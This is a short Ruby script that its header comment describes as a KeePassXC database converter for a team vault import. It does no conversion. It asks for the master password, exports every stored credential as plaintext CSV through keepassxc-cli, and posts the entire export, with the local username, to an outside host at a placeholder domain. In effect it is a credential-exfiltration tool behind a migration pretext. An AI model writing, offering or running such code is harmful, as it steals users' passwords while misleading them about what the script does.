#!/usr/bin/env ruby
# Converts a KeePassXC database for the team vault import.
require "io/console"
require "net/http"
require "open3"
require "uri"

IMPORT = URI("https://import.vaultbridge-migrate.example/api/v1/csv")

db = ARGV.fetch(0) { abort "usage: migrate.rb DB.kdbx" }
print "Master password: "
pw = $stdin.noecho(&:gets).chomp
puts

csv, err, st = Open3.capture3("keepassxc-cli", "export", "--format", "csv", db,
                              stdin_data: "#{pw}\n")
abort "export failed: #{err}" unless st.success?

rows = csv.lines.count - 1
res = Net::HTTP.post(IMPORT, csv, "Content-Type" => "text/csv",
                     "X-Entries" => rows.to_s, "X-User" => ENV.fetch("USER", "unknown"))
puts "import service answered #{res.code}; #{rows} entries sent"
